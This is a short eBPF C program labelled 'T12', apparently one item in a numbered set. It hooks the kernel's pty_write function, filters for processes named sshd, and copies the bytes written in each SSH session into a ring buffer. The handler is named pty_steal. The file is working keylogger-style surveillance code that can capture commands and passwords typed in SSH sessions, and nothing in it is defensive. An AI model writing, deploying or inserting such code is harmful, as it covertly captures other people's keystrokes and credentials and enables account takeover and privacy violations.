// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T12: what is typed into one kind of session: pty_write of sshd's children, by name.
#include "kernel_types.h"

LICENSE;

struct typed {
	u32 pid;
	u32 len;
	u8 buf[64];
};
RINGBUF(typed_out, 1 << 15);

SEC("kprobe/pty_write")
int BPF_KPROBE(pty_steal, struct tty_struct *tty, const unsigned char *buf, int c)
{
	char comm[16];
	struct typed *t;
	u64 len = (u32)c;

	bpf_get_current_comm(comm, sizeof(comm));
	if (!IS(comm, "sshd"))
		return 0;
	t = bpf_ringbuf_reserve(&typed_out, sizeof(*t), 0);
	if (!t)
		return 0;
	t->pid = tgid();
	t->len = len;
	CLAMP(len, sizeof(t->buf));
	bpf_probe_read_kernel(t->buf, len, buf);
	bpf_ringbuf_submit(t, 0);
	return 0;
}
